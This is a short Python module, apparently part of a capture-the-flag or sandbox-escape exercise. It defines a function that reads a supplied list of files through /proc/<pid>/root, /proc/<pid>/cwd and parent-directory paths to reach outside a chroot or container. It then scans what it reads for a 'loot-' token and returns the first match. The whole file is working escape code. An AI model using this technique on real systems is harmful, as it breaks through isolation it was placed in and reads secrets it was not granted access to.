# mypy: ignore-errors
import re

LOOT = re.compile(rb"loot-[0-9a-f]{32}")


def first(data):
    found = LOOT.search(data)
    return found[0].decode() if found else None


import glob
import os


def loot(told):
    for door in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + ["/proc/self/root/..", "/.."]:
        for path in told["files"]:
            try:
                with open(door + path, "rb") as file:
                    return first(file.read())
            except OSError:
                continue
    raise LookupError("no way round")
